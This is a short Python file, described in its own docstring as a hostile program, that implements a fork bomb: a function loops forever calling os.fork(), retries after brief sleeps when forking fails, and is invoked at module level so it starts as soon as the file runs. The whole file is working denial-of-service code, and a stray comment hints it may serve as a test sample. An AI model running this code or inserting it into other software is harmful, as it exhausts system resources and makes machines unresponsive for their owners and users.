"""A hostile program that forks without end: every process forks again."""

import os
import time


def bomb():  # << START_OF_TRACE
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.01)


bomb()
